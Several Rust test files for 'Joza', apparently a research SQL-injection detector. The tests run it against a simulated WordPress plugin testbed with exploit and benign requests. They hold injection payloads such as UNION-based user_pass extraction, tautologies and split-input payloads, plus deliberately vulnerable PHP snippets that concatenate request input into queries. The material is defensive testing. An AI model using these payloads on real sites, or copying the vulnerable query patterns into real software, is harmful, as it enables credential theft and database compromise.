                        let q = format!("SELECT * FROM records WHERE ID={id} LIMIT 5");
                        assert!(joza.check_query(&[&id.to_string()], &q).is_safe());
                    }
                })
            })
            .collect();
        for w in workers {
            w.join().expect("worker panicked");
        }
        done.store(true, Ordering::Release);
        let samples = monitor.join().expect("monitor panicked");
        assert!(samples > 0, "monitor never sampled");
    });

    let end = joza.query_cache_stats();
    assert_eq!(end.hits + end.misses, WORKERS * ROUNDS, "one lookup per check");
    assert!(end.inserts <= end.misses, "inserts only on misses");
    assert!(end.hits > 0, "shared cache must be shared: some hits expected");
}

#[test]
fn concurrent_servers_share_one_engine() {
    use joza::lab::build_lab;
    use joza::lab::verify::request_for;

    // One engine, several independent labs (processes in the paper).
    let lab0 = build_lab();
    let joza = Arc::new(Joza::install(&lab0.server.app, JozaConfig::optimized()));
    drop(lab0);

    let threads: Vec<_> = (0..4)
        .map(|_| {
            let joza = Arc::clone(&joza);
            std::thread::spawn(move || {
                let mut lab = build_lab();
                let plugins: Vec<_> = lab.plugins.iter().take(8).cloned().collect();
                for p in &plugins {
                    let resp = lab
                        .server
                        .handle_with(&request_for(p, p.exploit.primary_payload()), joza.as_ref());
                    assert!(
                        resp.blocked || resp.executed < resp.queries.len(),
                        "{}: exploit missed",
                        p.name
                    );
                    let resp =
                        lab.server.handle_with(&request_for(p, &p.benign_value), joza.as_ref());
                    assert!(!resp.blocked, "{}: benign blocked", p.name);
                }
            })
        })
        .collect();
    for t in threads {
        t.join().expect("server thread panicked");
    }
}
