//! Concurrency: one Joza engine shared by many request threads (the
//! paper's deployment — multiple PHP application instances talking to
//! shared daemons) must stay consistent under contention.

use joza::core::{Joza, JozaConfig, Verdict};
use joza::pti::daemon::{DaemonMode, PtiComponentConfig};
use std::sync::Arc;

const FRAGS: &[&str] = &[
    "id",
    "SELECT * FROM records WHERE ID=",
    " LIMIT 5",
    "SELECT option_value FROM wp_options WHERE option_name = '",
    "' LIMIT 1",
];

fn assert_send_sync<T: Send + Sync>() {}

#[test]
fn engine_is_send_and_sync() {
    assert_send_sync::<Joza>();
    assert_send_sync::<JozaConfig>();
    assert_send_sync::<Verdict>();
}

#[test]
fn concurrent_checks_are_consistent() {
    for mode in [DaemonMode::LongLived, DaemonMode::InProcess] {
        let config = JozaConfig {
            pti: PtiComponentConfig { mode, ..PtiComponentConfig::optimized() },
            ..JozaConfig::default()
        };
        let joza = Arc::new(Joza::builder().fragments(FRAGS).config(config).build());

        let threads: Vec<_> = (0..8)
            .map(|t| {
                let joza = Arc::clone(&joza);
                std::thread::spawn(move || {
                    for i in 0..200 {
                        let id = t * 1000 + i;
                        let benign = format!("SELECT * FROM records WHERE ID={id} LIMIT 5");
                        assert!(
                            joza.check_query(&[&id.to_string()], &benign).is_safe(),
                            "benign flipped under contention: {benign}"
                        );
                        if i % 7 == 0 {
                            let payload = format!("{id} UNION SELECT username()");
                            let attack =
                                format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
                            assert!(
                                !joza.check_query(&[&payload], &attack).is_safe(),
                                "attack missed under contention: {attack}"
                            );
                        }
                    }
                })
            })
            .collect();
        for t in threads {
            t.join().expect("worker thread panicked");
        }

        let stats = joza.stats();
        assert_eq!(stats.queries, 8 * (200 + 200_u64.div_ceil(7)));
        assert_eq!(stats.attacks, 8 * 200_u64.div_ceil(7));
    }
}

#[test]
fn concurrent_servers_share_one_engine() {
    use joza::lab::build_lab;
    use joza::lab::verify::request_for;

    // One engine, several independent labs (processes in the paper).
    let lab0 = build_lab();
    let joza = Arc::new(Joza::install(&lab0.server.app, JozaConfig::optimized()));
    drop(lab0);

    let threads: Vec<_> = (0..4)
        .map(|_| {
            let joza = Arc::clone(&joza);
            std::thread::spawn(move || {
                let mut lab = build_lab();
                let plugins: Vec<_> = lab.plugins.iter().take(8).cloned().collect();
                for p in &plugins {
                    let mut gate = joza.gate();
                    let resp = lab
                        .server
                        .handle_gated(&request_for(p, p.exploit.primary_payload()), &mut gate);
                    assert!(
                        resp.blocked || resp.executed < resp.queries.len(),
                        "{}: exploit missed",
                        p.name
                    );
                    let mut gate = joza.gate();
                    let resp = lab.server.handle_gated(&request_for(p, &p.benign_value), &mut gate);
                    assert!(!resp.blocked, "{}: benign blocked", p.name);
                }
            })
        })
        .collect();
    for t in threads {
        t.join().expect("server thread panicked");
    }
}
