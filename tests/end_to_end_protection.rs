//! End-to-end protection across the whole WP-SQLI-LAB testbed: every
//! shipped exploit works against the unprotected application, is stopped
//! by Joza, and the corresponding benign request goes through untouched.

use joza::core::{Joza, JozaConfig};
use joza::lab::verify::{benign_request_clean, request_for, verify_exploit};
use joza::lab::{build_lab, wordpress};

#[test]
fn every_testbed_exploit_works_and_is_blocked() {
    let mut lab = build_lab();
    let joza = Joza::install(&lab.server.app, JozaConfig::optimized());

    let plugins = lab.plugins.clone();
    assert_eq!(plugins.len(), 50);
    for plugin in &plugins {
        // (a) the exploit really works unprotected — observable effect.
        assert!(
            verify_exploit(&mut lab.server, plugin),
            "{}: shipped exploit has no observable effect",
            plugin.name
        );
        // (b) the same attack request is stopped behind Joza.
        let attack = request_for(plugin, plugin.exploit.primary_payload());
        let resp = lab.server.handle_with(&attack, &joza);
        assert!(
            resp.blocked || resp.executed < resp.queries.len(),
            "{}: exploit not stopped by Joza",
            plugin.name
        );
        assert!(
            !resp.body.contains(wordpress::SECRET_PASSWORD),
            "{}: secret leaked through Joza",
            plugin.name
        );
        // (c) the benign request is served.
        assert!(
            benign_request_clean(&mut lab.server, plugin),
            "{}: benign request broken unprotected",
            plugin.name
        );
        let resp = lab.server.handle_with(&request_for(plugin, &plugin.benign_value), &joza);
        assert!(!resp.blocked, "{}: benign request blocked (false positive)", plugin.name);
        assert_eq!(
            resp.executed,
            resp.queries.len(),
            "{}: benign query error-virtualized (false positive)",
            plugin.name
        );
    }
}

#[test]
fn cms_case_studies_are_protected() {
    let mut lab = build_lab();
    let joza = Joza::install(&lab.server.app, JozaConfig::optimized());
    let cases = lab.cms_cases.clone();
    assert_eq!(cases.len(), 3, "Joomla, Drupal, osCommerce");
    for case in &cases {
        assert!(verify_exploit(&mut lab.server, case), "{}: exploit inert", case.name);
        let resp =
            lab.server.handle_with(&request_for(case, case.exploit.primary_payload()), &joza);
        assert!(
            resp.blocked || resp.executed < resp.queries.len(),
            "{}: attack not stopped",
            case.name
        );
        let resp = lab.server.handle_with(&request_for(case, &case.benign_value), &joza);
        assert!(!resp.blocked, "{}: benign blocked", case.name);
    }
}

#[test]
fn hybrid_detects_attacks_either_component_misses() {
    // The testbed's base64 plugin (AdRotate) evades NTI; the hybrid must
    // still stop it via PTI.
    let mut lab = build_lab();
    let nti_only = Joza::install(&lab.server.app, JozaConfig::nti_only());
    let hybrid = Joza::install(&lab.server.app, JozaConfig::optimized());
    let adrotate = lab.plugins.iter().find(|p| p.name == "AdRotate").unwrap().clone();
    assert!(adrotate.decodes_base64());

    let attack = request_for(&adrotate, adrotate.exploit.primary_payload());
    let resp = lab.server.handle_with(&attack, &nti_only);
    assert!(
        !resp.blocked && resp.executed == resp.queries.len(),
        "NTI alone should miss the base64-encoded exploit"
    );

    let resp = lab.server.handle_with(&attack, &hybrid);
    assert!(resp.blocked || resp.executed < resp.queries.len(), "hybrid must stop it");
}
