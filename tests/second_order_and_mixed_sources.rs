//! Second-order and mixed-input-source attacks (§III-B "PTI strengths").
//!
//! NTI correlates the *current request's* inputs with the query, so a
//! payload that is stored in request 1 and only reaches a query in
//! request 2 is invisible to it. PTI is input-independent and catches it.
//! Likewise a payload assembled by concatenating several harmless-looking
//! inputs defeats NTI's no-combination rule but not PTI.

use joza::core::{Joza, JozaConfig};
use joza::db::{Database, Value};
use joza::webapp::app::{Plugin, WebApp};
use joza::webapp::request::HttpRequest;
use joza::webapp::server::Server;

fn second_order_app() -> Server {
    let mut app = WebApp::new("second-order");
    // Request 1: store a "nickname" verbatim (no quotes needed — numeric
    // cache slot), as a cache/file would in the paper's example.
    app.add_plugin(Plugin::new(
        "store",
        "1.0",
        r#"
        $nick = $_POST['nick'];
        $ok = mysql_query("INSERT INTO cache (slot, body) VALUES (1, '" . $nick . "')");
        if ($ok) { echo "stored"; } else { echo "err: ", mysql_error(); }
        "#,
    ));
    // Request 2: read it back and build a query from it — the second-order
    // sink.
    app.add_plugin(Plugin::new(
        "replay",
        "1.0",
        r#"
        $r = mysql_query("SELECT body FROM cache WHERE slot = 1");
        $row = mysql_fetch_assoc($r);
        $q = mysql_query("SELECT title FROM posts WHERE author = " . $row['body']);
        while ($p = mysql_fetch_assoc($q)) { echo $p['title'], ";"; }
        "#,
    ));
    let mut db = Database::new();
    db.create_table("cache", &["slot", "body"]);
    db.create_table("posts", &["title", "author"]);
    db.insert_row("posts", vec!["public post".into(), Value::Int(1)]);
    db.insert_row("posts", vec!["hidden post".into(), Value::Int(2)]);
    Server::new(app, db)
}

#[test]
fn second_order_attack_evades_nti_but_not_joza() {
    let mut server = second_order_app();
    let nti_only = Joza::install(&server.app, JozaConfig::nti_only());
    let hybrid = Joza::install(&server.app, JozaConfig::optimized());

    // Stage the payload. The INSERT itself carries no unescaped critical
    // structure change the storing request's NTI would reject — but even
    // gated, storing is allowed here because we attack on *replay*.
    let stage = HttpRequest::post("store").param("nick", "1 OR 1=1");
    let resp = server.handle(&stage);
    assert_eq!(resp.body, "stored");

    // Replay request carries NO attacker input at all.
    let replay = HttpRequest::get("replay");

    // Unprotected: the tautology leaks every post.
    let resp = server.handle(&replay);
    assert!(resp.body.contains("hidden post"), "second-order attack must work: {}", resp.body);

    // NTI alone: no inputs in this request → nothing to mark → miss.
    let resp = server.handle_with(&replay, &nti_only);
    assert_eq!(resp.executed, resp.queries.len(), "NTI alone must miss the stored payload");

    // Hybrid: PTI sees OR outside any fragment → stopped.
    let resp = server.handle_with(&replay, &hybrid);
    assert!(
        resp.blocked || resp.executed < resp.queries.len(),
        "Joza must stop the second-order attack"
    );
}

#[test]
fn payload_construction_across_inputs_evades_nti_but_not_joza() {
    // The §III-A payload-construction example: three harmless inputs
    // concatenate into `1 OR TRUE`.
    let mut app = WebApp::new("concat");
    app.add_plugin(Plugin::new(
        "multi",
        "1.0",
        r#"
        $input = $_GET['q1'] . $_GET['q2'] . $_GET['q3'];
        $r = mysql_query("SELECT * FROM data WHERE ID=" . $input);
        if ($r) { while ($row = mysql_fetch_assoc($r)) { echo $row['v'], ";"; } }
        else { echo "err"; }
        "#,
    ));
    let mut db = Database::new();
    db.create_table("data", &["ID", "v"]);
    db.insert_row("data", vec![Value::Int(1), "one".into()]);
    db.insert_row("data", vec![Value::Int(2), "two".into()]);
    let mut server = Server::new(app, db);

    let nti_only = Joza::install(&server.app, JozaConfig::nti_only());
    let hybrid = Joza::install(&server.app, JozaConfig::optimized());

    // Every critical token (`OR`, `TRUE`) is split across inputs, so no
    // single input covers a whole critical token.
    let attack = HttpRequest::get("multi").param("q1", "1 O").param("q2", "R TR").param("q3", "UE");

    // It really works unprotected.
    let resp = server.handle(&attack);
    assert!(resp.body.contains("two"), "constructed payload must leak: {}", resp.body);

    // NTI: markings from different inputs are never combined; no single
    // input matches a whole critical token span cleanly enough.
    let resp = server.handle_with(&attack, &nti_only);
    assert_eq!(
        resp.executed,
        resp.queries.len(),
        "NTI alone should miss the multi-input construction"
    );

    // The hybrid stops it (OR/TRUE are not program fragments).
    let resp = server.handle_with(&attack, &hybrid);
    assert!(resp.blocked || resp.executed < resp.queries.len());
}

#[test]
fn single_letter_inputs_do_not_cause_false_positives() {
    // The no-combination rule exists to avoid false positives: `O` and `R`
    // as separate inputs must not taint the word OR in a benign query.
    let mut app = WebApp::new("letters");
    app.add_plugin(Plugin::new(
        "page",
        "1.0",
        r#"
        $a = $_GET['a'];
        $r = mysql_query("SELECT v FROM data WHERE ID=1 OR ID=2");
        while ($row = mysql_fetch_assoc($r)) { echo $row['v']; }
        "#,
    ));
    let mut db = Database::new();
    db.create_table("data", &["ID", "v"]);
    db.insert_row("data", vec![Value::Int(1), "x".into()]);
    let mut server = Server::new(app, db);
    // The app's own source contains the OR query → PTI covers it.
    let joza = Joza::install(&server.app, JozaConfig::optimized());
    let req = HttpRequest::get("page").param("a", "O").query_param("b", "R");
    let resp = server.handle_with(&req, &joza);
    assert!(!resp.blocked);
    assert_eq!(resp.executed, resp.queries.len(), "benign OR flagged — inputs combined?");
}
