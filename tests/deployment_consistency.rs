//! Deployment-mode and cache consistency: whatever the daemon mode or
//! cache configuration, verdicts must be identical — caches and IPC are
//! performance features, never security features.

use joza::core::{Joza, JozaConfig};
use joza::lab::verify::request_for;
use joza::lab::{build_lab, corpus};
use joza::pti::daemon::{DaemonMode, PtiComponent, PtiComponentConfig};
use joza::pti::{MatcherKind, PtiConfig};

const FRAGS: &[&str] = &[
    "id",
    "SELECT * FROM records WHERE ID=",
    " LIMIT 5",
    "SELECT option_value FROM wp_options WHERE option_name = '",
    "' LIMIT 1",
];

fn queries() -> Vec<String> {
    let mut q = vec![
        "SELECT * FROM records WHERE ID=42 LIMIT 5".to_string(),
        "SELECT * FROM records WHERE ID=42 LIMIT 5".to_string(), // repeat: cache hit
        "SELECT * FROM records WHERE ID=77 LIMIT 5".to_string(), // same shape
        "SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5".to_string(),
        "SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5".to_string(),
        "SELECT option_value FROM wp_options WHERE option_name = 'siteurl' LIMIT 1".to_string(),
        "SELECT * FROM records WHERE ID=1 OR 1=1 LIMIT 5".to_string(),
        "SELECT * FROM records WHERE ID=1 /* stuffed''''' */ LIMIT 5".to_string(),
    ];
    for i in 0..20 {
        q.push(format!("SELECT * FROM records WHERE ID={i} LIMIT 5"));
    }
    q
}

#[test]
fn all_daemon_modes_and_caches_agree() {
    let configs: Vec<PtiComponentConfig> = vec![
        PtiComponentConfig {
            mode: DaemonMode::InProcess,
            query_cache: false,
            structure_cache: false,
            pti: PtiConfig::default(),
            ..Default::default()
        },
        PtiComponentConfig { mode: DaemonMode::InProcess, ..PtiComponentConfig::optimized() },
        PtiComponentConfig {
            mode: DaemonMode::LongLived,
            query_cache: false,
            structure_cache: false,
            pti: PtiConfig::optimized(),
            ..Default::default()
        },
        PtiComponentConfig::optimized(),
        PtiComponentConfig { mode: DaemonMode::PerRequest, ..PtiComponentConfig::optimized() },
        PtiComponentConfig { mode: DaemonMode::PerQuery, ..PtiComponentConfig::optimized() },
        PtiComponentConfig::unoptimized(),
    ];
    // Reference: direct in-process analysis, no caches, default matcher.
    let mut reference = PtiComponent::new(FRAGS, configs[0].clone());
    let expected: Vec<bool> = queries().iter().map(|q| reference.check(q).safe).collect();

    for cfg in &configs[1..] {
        let mut component = PtiComponent::new(FRAGS, cfg.clone());
        component.begin_request();
        let got: Vec<bool> = queries().iter().map(|q| component.check(q).safe).collect();
        component.end_request();
        assert_eq!(got, expected, "verdict drift under {cfg:?}");
    }
}

#[test]
fn all_matchers_agree_on_the_testbed() {
    let lab = build_lab();
    let mut set = joza::phpsim::fragments::FragmentSet::new();
    for src in lab.server.app.all_sources() {
        set.add_source(src);
    }
    use joza::pti::analyzer::PtiAnalyzer;
    let queries = [
        "SELECT option_value FROM wp_options WHERE option_name = 'siteurl' LIMIT 1",
        "SELECT * FROM wp_posts WHERE ID = -1 UNION SELECT user_pass FROM wp_users",
        "SELECT name, info FROM p0_a_to_z_category_listing WHERE hidden=0 AND cat=1 OR 1=1",
    ];
    for q in queries {
        let verdicts: Vec<bool> = [MatcherKind::Naive, MatcherKind::Mru, MatcherKind::AhoCorasick]
            .into_iter()
            .map(|m| {
                PtiAnalyzer::from_fragments(
                    set.iter(),
                    PtiConfig { matcher: m, ..PtiConfig::default() },
                )
                .analyze(q)
                .is_attack()
            })
            .collect();
        assert!(verdicts.windows(2).all(|w| w[0] == w[1]), "{q}: {verdicts:?}");
    }
}

#[test]
fn verdicts_stable_across_repeated_checks_with_caches() {
    // An attack must stay detected on every re-check (nothing poisons the
    // caches), and a safe query must stay safe.
    let joza = Joza::builder().fragments(FRAGS).config(JozaConfig::optimized()).build();
    for _ in 0..5 {
        assert!(joza.check_query(&["42"], "SELECT * FROM records WHERE ID=42 LIMIT 5").is_safe());
        let p = "-1 UNION SELECT username()";
        assert!(!joza
            .check_query(&[p], &format!("SELECT * FROM records WHERE ID={p} LIMIT 5"))
            .is_safe());
    }
    let stats = joza.stats();
    assert_eq!(stats.queries, 10);
    assert_eq!(stats.attacks, 5);
}

#[test]
fn gate_outcomes_identical_across_modes_on_real_exploits() {
    let mut lab = build_lab();
    let plugins: Vec<corpus::VulnPlugin> = lab.plugins.iter().take(10).cloned().collect();
    let mut outcomes: Vec<Vec<bool>> = Vec::new();
    for mode in [DaemonMode::InProcess, DaemonMode::LongLived, DaemonMode::PerRequest] {
        let mut cfg = JozaConfig::optimized();
        cfg.pti.mode = mode;
        let joza = Joza::install(&lab.server.app, cfg);
        let row: Vec<bool> = plugins
            .iter()
            .map(|p| {
                let resp =
                    lab.server.handle_with(&request_for(p, p.exploit.primary_payload()), &joza);
                resp.blocked || resp.executed < resp.queries.len()
            })
            .collect();
        outcomes.push(row);
    }
    assert_eq!(outcomes[0], outcomes[1]);
    assert_eq!(outcomes[1], outcomes[2]);
    assert!(outcomes[0].iter().all(|&d| d), "every exploit detected in every mode");
}
