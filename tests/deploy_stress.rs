//! Hot-swap stress: `Joza::deploy` racing live traffic.
//!
//! The RCU-style deployment scheme (DESIGN.md §11) promises three things
//! under concurrency, and this suite hammers each:
//!
//! * **monotone generations** — every successful deploy mints a strictly
//!   increasing generation, even when deployers race;
//! * **no torn reads** — a session pins one release; every verdict it
//!   produces reflects that release's models *and* its generation stamp,
//!   never a mix of two releases;
//! * **drift-free counters** — per-worker stats cells aggregate to
//!   exactly the work submitted once the workers join, no matter how many
//!   swaps happened mid-flight.

use joza::core::{CheckPath, Joza, JozaConfig, ModelUpdate, QueryCheck};
use joza::sqlparse::template::{QueryModelIndex, QueryTemplate, RouteModel, TemplatePart};
use std::sync::atomic::{AtomicBool, Ordering};

const FRAGS: &[&str] = &["id", "SELECT * FROM records WHERE ID=", " LIMIT 5"];

fn record_models() -> QueryModelIndex {
    let template = QueryTemplate {
        parts: vec![
            TemplatePart::Lit("SELECT * FROM records WHERE ID=".to_string()),
            TemplatePart::Hole,
            TemplatePart::Lit(" LIMIT 5".to_string()),
        ],
    };
    let mut models = QueryModelIndex::new();
    models.insert("records", RouteModel::build(&[Some(vec![template])]));
    models
}

fn engine() -> Joza {
    Joza::builder()
        .fragments(FRAGS)
        .config(JozaConfig { shards: 8, ..JozaConfig::optimized() })
        .known_routes(["records"])
        .build()
}

/// Racing deployers: every successful deploy must mint a unique
/// generation, the full set must be gapless, and each deployer must see
/// its own sequence strictly increase.
#[test]
fn racing_deploys_mint_strictly_increasing_generations() {
    const DEPLOYERS: usize = 4;
    const DEPLOYS_EACH: usize = 40;

    let joza = engine();
    let mut per_thread: Vec<Vec<u64>> = Vec::new();
    std::thread::scope(|s| {
        let handles: Vec<_> = (0..DEPLOYERS)
            .map(|d| {
                let joza = &joza;
                s.spawn(move || {
                    let mut minted = Vec::with_capacity(DEPLOYS_EACH);
                    for i in 0..DEPLOYS_EACH {
                        let update = if (d + i) % 2 == 0 {
                            ModelUpdate::new().query_models(record_models())
                        } else {
                            ModelUpdate::new().clear_query_models()
                        };
                        minted.push(joza.deploy(update).expect("valid deploy"));
                    }
                    minted
                })
            })
            .collect();
        for h in handles {
            per_thread.push(h.join().expect("deployer panicked"));
        }
    });

    for minted in &per_thread {
        assert!(
            minted.windows(2).all(|w| w[0] < w[1]),
            "a deployer's own generations must strictly increase: {minted:?}"
        );
    }
    let mut all: Vec<u64> = per_thread.into_iter().flatten().collect();
    all.sort_unstable();
    let expected: Vec<u64> = (1..=(DEPLOYERS * DEPLOYS_EACH) as u64).collect();
    assert_eq!(all, expected, "generations must be unique and gapless");
    assert_eq!(joza.generation(), (DEPLOYERS * DEPLOYS_EACH) as u64);
}

/// Workers checking through sessions (single and batch) while one
/// deployer continuously rolls the query models out and back. The
/// deploy alternation gives every generation a signature — odd
/// generations have the model installed, even ones don't — so a torn
/// read (generation stamp from one release, model handle from another)
/// is directly observable on any verdict.
#[test]
fn checks_under_continuous_deploys_never_tear() {
    const WORKERS: u64 = 6;
    const ROUNDS: u64 = 120;
    const BATCH_EVERY: u64 = 3;
    const ATTACK_EVERY: u64 = 8;

    let joza = engine();
    let done = AtomicBool::new(false);
    let mut deploys = 0u64;
    std::thread::scope(|s| {
        let deployer = s.spawn({
            let joza = &joza;
            let done = &done;
            move || {
                let mut count = 0u64;
                while !done.load(Ordering::Acquire) {
                    // Odd generation: models live. Even: rolled back.
                    joza.deploy(ModelUpdate::new().query_models(record_models())).expect("rollout");
                    joza.deploy(ModelUpdate::new().clear_query_models()).expect("rollback");
                    count += 2;
                    std::thread::yield_now();
                }
                count
            }
        });

        let workers: Vec<_> = (0..WORKERS)
            .map(|t| {
                let joza = &joza;
                s.spawn(move || {
                    let mut last_generation = 0u64;
                    for i in 0..ROUNDS {
                        let id = t * 100_000 + i;
                        let q = format!("SELECT * FROM records WHERE ID={id} LIMIT 5");
                        let session = joza.session_for("records");
                        let generation = session.generation();
                        assert!(
                            generation >= last_generation,
                            "worker observed generation going backwards: \
                             {generation} < {last_generation}"
                        );
                        last_generation = generation;
                        let verdicts = if i % BATCH_EVERY == 0 {
                            let checks = vec![
                                QueryCheck::new(&q).with_input(id.to_string()),
                                QueryCheck::new(&q).with_input(id.to_string()),
                            ];
                            session.check_batch(&checks)
                        } else {
                            vec![session.check(&q)]
                        };
                        for v in &verdicts {
                            assert!(v.is_safe(), "benign flipped under swaps: {q}");
                            // The pinned release, whole: stamp and model
                            // must come from the same generation.
                            assert_eq!(
                                v.trace().generation(),
                                generation,
                                "verdict stamped with a different release than its session"
                            );
                            let expect_model = generation % 2 == 1;
                            assert_eq!(
                                v.path() == CheckPath::ModelFastPath,
                                expect_model,
                                "torn read: generation {generation} served with the wrong \
                                 model state"
                            );
                        }
                        if i % ATTACK_EVERY == 0 {
                            let payload = format!("{id} UNION SELECT username()");
                            let attack =
                                format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
                            let mut s2 = joza.session_for("records");
                            s2.capture_input("id", &payload);
                            assert!(
                                !s2.check(&attack).is_safe(),
                                "attack missed mid-swap: {attack}"
                            );
                        }
                    }
                })
            })
            .collect();
        for w in workers {
            w.join().expect("worker panicked");
        }
        done.store(true, Ordering::Release);
        deploys = deployer.join().expect("deployer panicked");
    });

    assert!(deploys > 0, "deployer never ran");
    assert_eq!(joza.generation(), deploys);

    // Drift-free counters at quiescence: every check accounted for once.
    let per_worker = ROUNDS + ROUNDS.div_ceil(BATCH_EVERY) + ROUNDS.div_ceil(ATTACK_EVERY);
    let stats = joza.stats();
    assert_eq!(stats.queries, WORKERS * per_worker, "queries dropped or double-counted");
    assert_eq!(stats.attacks, WORKERS * ROUNDS.div_ceil(ATTACK_EVERY));
    assert_eq!(
        stats.model_fast_hits + stats.static_hits + stats.full_checks,
        stats.queries,
        "path partition must survive hot swaps"
    );
}
