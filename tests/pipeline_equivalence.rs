//! Pipeline equivalence: the deprecated [`QueryGate`] adapter (the
//! pre-refactor entry point, kept as a shim) and the staged
//! [`CheckPipeline`] behind the unified session API must be
//! observationally identical — same verdicts, same detector attribution,
//! same anomaly flags, same stage traces — over the entire WP-SQLI-LAB
//! corpus, benign and exploit traffic alike.
//!
//! This file and the shim module itself are the only places allowed to
//! touch the deprecated adapter (enforced by `scripts/ci.sh`).

#![allow(deprecated)]

use joza::core::{Joza, JozaConfig};
use joza::lab::verify::request_for;
use joza::lab::{build_lab, Lab};
use joza::sast::{app_query_models, taint_free_routes};
use joza::webapp::gate::{QueryGate, RawInput};
use joza::webapp::request::HttpRequest;

/// Every kind of corpus traffic: benign core crawl, benign plugin
/// requests, and every shipped exploit (plugins + CMS case studies).
fn corpus_requests(lab: &Lab) -> Vec<HttpRequest> {
    let mut reqs = vec![HttpRequest::get("index")];
    for p in 1..=5 {
        reqs.push(HttpRequest::get("single-post").param("p", &p.to_string()));
    }
    reqs.push(HttpRequest::get("search").param("s", "lorem"));
    reqs.push(
        HttpRequest::post("post-comment")
            .param("comment_post_ID", "2")
            .param("author", "alice")
            .param("comment", "it's a nice post"),
    );
    for p in lab.plugins.iter().chain(lab.cms_cases.iter()) {
        reqs.push(request_for(p, &p.benign_value));
        reqs.push(request_for(p, p.exploit.primary_payload()));
    }
    reqs
}

fn raw_inputs(req: &HttpRequest) -> Vec<RawInput> {
    req.all_inputs()
        .into_iter()
        .map(|(source, name, value)| RawInput { source, name, value })
        .collect()
}

/// Fully-loaded engine: query models for the model fast path plus the
/// statically-proven taint-free routes, so every pipeline stage is live.
fn full_engine(lab: &Lab) -> Joza {
    Joza::installer(&lab.server.app, JozaConfig::optimized())
        .query_models(app_query_models(&lab.server.app))
        .taint_free_routes(taint_free_routes(&lab.server.app))
        .build()
}

/// Per-query equivalence: replay every SQL statement the unprotected
/// application issues for the full corpus through both entry points and
/// require bit-identical verdicts.
#[test]
fn legacy_gate_and_pipeline_agree_on_every_corpus_query() {
    let mut lab = build_lab();
    let joza = full_engine(&lab);

    let mut checked = 0usize;
    for req in &corpus_requests(&lab) {
        lab.reset_database();
        let plain = lab.server.handle(req);
        let inputs = raw_inputs(req);

        for sql in &plain.queries {
            let mut gate = joza.gate();
            gate.begin_route(&req.path);
            gate.begin_request(&inputs);
            let legacy = gate.check_verdict(sql);

            let mut session = joza.session_for(&req.path);
            for i in &inputs {
                session.capture_input(&i.name, &i.value);
            }
            let unified = session.check(sql);

            assert_eq!(
                legacy.is_safe(),
                unified.is_safe(),
                "verdict drift on route {} for query {sql}",
                req.path
            );
            assert_eq!(legacy.detector(), unified.detector(), "{}: {sql}", req.path);
            assert_eq!(
                legacy.structural_anomaly(),
                unified.structural_anomaly(),
                "{}: {sql}",
                req.path
            );
            assert_eq!(legacy.trace(), unified.trace(), "{}: {sql}", req.path);
            assert_eq!(legacy, unified, "{}: {sql}", req.path);
            checked += 1;
        }
    }
    assert!(checked > 150, "corpus too small to be meaningful: {checked} queries");

    // Both entry points feed the same accounting, which must partition.
    let stats = joza.stats();
    assert_eq!(stats.queries, 2 * checked as u64);
    assert_eq!(stats.model_fast_hits + stats.static_hits + stats.full_checks, stats.queries);
}

/// Response-level equivalence: a server driven through the legacy gate
/// must serve byte-identical responses (and identical blocking decisions)
/// to one driven through the unified session factory.
#[test]
fn legacy_gate_and_pipeline_serve_identical_responses() {
    let mut lab = build_lab();
    let joza = full_engine(&lab);

    for req in &corpus_requests(&lab) {
        lab.reset_database();
        let mut gate = joza.gate();
        let legacy = lab.server.handle_gated(req, &mut gate);

        lab.reset_database();
        let unified = lab.server.handle_with(req, &joza);

        assert_eq!(legacy.blocked, unified.blocked, "blocking drift on {}", req.path);
        assert_eq!(legacy.executed, unified.executed, "execution drift on {}", req.path);
        assert_eq!(legacy.body, unified.body, "response drift on {}", req.path);
    }
}
