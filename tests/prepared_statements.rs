//! "Prepared statements are not a panacea" (§V-B): the Drupal
//! CVE-2014-3704 case end to end — bound values are safe, but
//! attacker-controlled placeholder *names* edit the statement text, and
//! Joza intercepts that text.

use joza::core::{Joza, JozaConfig};
use joza::lab::verify::{request_for, verify_exploit};
use joza::lab::{build_lab, wordpress};

#[test]
fn bound_values_are_inert_but_placeholder_names_are_not() {
    let mut lab = build_lab();
    let drupal = lab.cms_cases.iter().find(|c| c.name == "Drupal").unwrap().clone();

    // Benign: a real prepared statement over an expanded IN-list.
    let benign = request_for(&drupal, &drupal.benign_value);
    let resp = lab.server.handle(&benign);
    assert!(resp.sql_error.is_none(), "{:?}", resp.sql_error);
    assert!(!resp.body.contains(wordpress::SECRET_PASSWORD));

    // A hostile *value* is harmless — binding keeps it data.
    let hostile_value = lab.server.handle(
        &joza::webapp::request::HttpRequest::get(&drupal.slug)
            .param("ids[0]", "0 OR 1=1")
            .param("ids[1]", "1' UNION SELECT user_pass FROM wp_users-- -"),
    );
    assert!(
        !hostile_value.body.contains(wordpress::SECRET_PASSWORD),
        "bound values must never be interpreted as SQL: {}",
        hostile_value.body
    );

    // A hostile *key* edits the prepared text: the real CVE channel.
    assert!(verify_exploit(&mut lab.server, &drupal), "placeholder-name exploit must work");

    // Joza intercepts the expanded statement text and stops it.
    let joza = Joza::install(&lab.server.app, JozaConfig::optimized());
    let attack = request_for(&drupal, drupal.exploit.primary_payload());
    let resp = lab.server.handle_with(&attack, &joza);
    assert!(resp.blocked || resp.executed < resp.queries.len());
    assert!(!resp.body.contains(wordpress::SECRET_PASSWORD));

    // And the benign prepared flow still passes the gate (fragment
    // extraction splits literals at `:name` placeholders, §IV-A).
    let resp = lab.server.handle_with(&benign, &joza);
    assert!(!resp.blocked, "benign prepared statement blocked");
    assert_eq!(resp.executed, resp.queries.len());
}

#[test]
fn nti_sees_array_keys_as_inputs() {
    // The payload travels as a PHP array *key*; NTI's preprocessing must
    // capture it like any other input (§IV-B "stores a copy of all
    // inputs").
    let mut lab = build_lab();
    let drupal = lab.cms_cases.iter().find(|c| c.name == "Drupal").unwrap().clone();
    let nti_only = Joza::install(&lab.server.app, JozaConfig::nti_only());
    let attack = request_for(&drupal, drupal.exploit.primary_payload());
    let resp = lab.server.handle_with(&attack, &nti_only);
    assert!(
        resp.blocked || resp.executed < resp.queries.len(),
        "NTI must detect the key-borne payload (Table IV row: Drupal / NTI original: Yes)"
    );
}
