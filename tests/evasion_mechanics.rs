//! The §III-A / §V-A evasion mechanics, verified end to end: each evasion
//! really defeats the targeted component *and* still works as an attack,
//! and the hybrid stops all of them.

